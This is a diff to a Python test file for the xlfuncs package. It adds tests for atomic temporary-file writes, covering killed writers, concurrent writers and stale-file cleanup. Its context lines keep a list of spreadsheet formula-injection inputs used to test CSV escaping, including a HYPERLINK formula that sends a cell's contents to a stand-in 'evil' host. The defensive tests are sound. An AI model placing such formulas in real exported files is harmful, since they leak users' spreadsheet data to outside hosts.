@@ -5,6 +5,11 @@ from __future__ import annotations
 import ast
 import csv
 import dataclasses
+import os
+import signal
+import subprocess
+import sys
+import time
 from pathlib import Path
 
 import numpy as np
@@ -14,12 +19,13 @@ import pytest
 from fund_api import sample_holdings
 
 from xlfuncs import cli
-from xlfuncs._files import csv_safe, write_csv
+from xlfuncs._files import _HOST, STALE_AFTER, atomic_write, csv_safe, write_csv
 from xlfuncs.core import BacktestConfig, run_backtest
 from xlfuncs.data.market import load_market
 from xlfuncs.report import write_results
 
-PACKAGE = Path(__file__).resolve().parent.parent / "xlfuncs"
+ROOT = Path(__file__).resolve().parent.parent
+PACKAGE = ROOT / "xlfuncs"
 EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'
 # Text that a spreadsheet runs (OWASP: = + - @ tab CR LF; and the full-width = + - @)
 FORMULAS = [EVIL, "+1+2", "-2+3", "-5", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "\n=1+2",
@@ -156,3 +162,87 @@ def test_backtest_results_keep_a_formula_asset_as_text(tmp_path):
     for got, want in zip(returns[-1][1:], result.returns.iloc[-1], strict=True):
         assert got == ("" if np.isnan(want) else pytest.approx(want, rel=1e-12))
 
+
+# --------------------------------------------------------------------------- temporary files
+
+WRITER = """
+import sys
+from xlfuncs._files import atomic_write
+
+def write(tmp):
+    tmp.write_text("half a file")
+    print(tmp.name, flush=True)
+    sys.stdin.readline()  # hold the write open here until told to go on (or killed)
+    tmp.write_text("theirs")
+
+atomic_write(sys.argv[1], write)
+print("done", flush=True)
+"""
+
+
+def start_writer(target: Path) -> tuple[subprocess.Popen, Path]:
+    """Another process in the middle of writing ``target``; returns it and its temporary file."""
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(
+        [str(ROOT), *filter(None, [os.environ.get("PYTHONPATH")])])}
+    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(target)], stdin=subprocess.PIPE,
+                            stdout=subprocess.PIPE, text=True, env=env)
+    name = proc.stdout.readline().strip()
+    assert name, "the writer did not start"
+    return proc, target.parent / name
+
+
+def hidden(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))
+
+
+@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")
+def test_a_write_killed_midway_leaves_a_file_the_next_write_removes(tmp_path):
+    target = tmp_path / "x.csv"
+    target.write_text("old")
+    proc, tmp = start_writer(target)
+    os.kill(proc.pid, signal.SIGKILL)
+    proc.wait(timeout=30)
+    assert proc.returncode == -signal.SIGKILL
+    assert tmp.read_text() == "half a file" and target.read_text() == "old"  # left over
+    atomic_write(target, lambda p: p.write_text("next"))
+    assert target.read_text() == "next"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]
+
+
+def test_a_write_in_progress_elsewhere_is_left_alone(tmp_path):
+    target = tmp_path / "x.csv"
+    proc, tmp = start_writer(target)
+    try:
+        atomic_write(target, lambda p: p.write_text("mine"))
+        assert target.read_text() == "mine"
+        assert tmp.read_text() == "half a file"  # the other writer's file is still there
+        out, _ = proc.communicate("go on\n", timeout=30)
+    finally:
+        proc.kill()
+    assert (proc.returncode, out.strip()) == (0, "done")
+    assert target.read_text() == "theirs"  # its rename came last
+    assert hidden(tmp_path) == []
+
+
+def test_old_temporary_files_of_the_target_go_others_stay(tmp_path):
+    """Older than STALE_AFTER: gone (any machine, the old naming too); the rest stays."""
+    other = "00000000" if _HOST != "00000000" else "11111111"
+    old = time.time() - STALE_AFTER - 60
+    names = {
+        ".x.csv.abcdefgh.csv": (old, False),  # named before writers were named
+        ".x.csv.ijklmnop.csv": (None, True),
+        f".x.csv.{other}-4242.qrstuvwx.csv": (old, False),  # another machine's, abandoned
+        f".x.csv.{other}-4242.yz012345.csv": (None, True),  # another machine's, at work
+        f".x.csv.{_HOST}-{os.getpid()}.abcdefgh.csv": (None, True),  # a thread of ours
+        ".y.csv.abcdefgh.csv": (old, True),  # another file's
+        ".x.csv.notours.csv": (old, True),
+        "x.csv.abcdefgh.csv": (old, True),
+    }
+    for name, (mtime, _) in names.items():
+        (tmp_path / name).write_text("tmp")
+        if mtime is not None:
+            os.utime(tmp_path / name, (mtime, mtime))
+    atomic_write(tmp_path / "x.csv", lambda p: p.write_text("new"))
+    assert hidden(tmp_path) == sorted(n for n, (_, kept) in names.items()
+                                      if kept and n.startswith("."))
+    assert (tmp_path / "x.csv.abcdefgh.csv").exists()
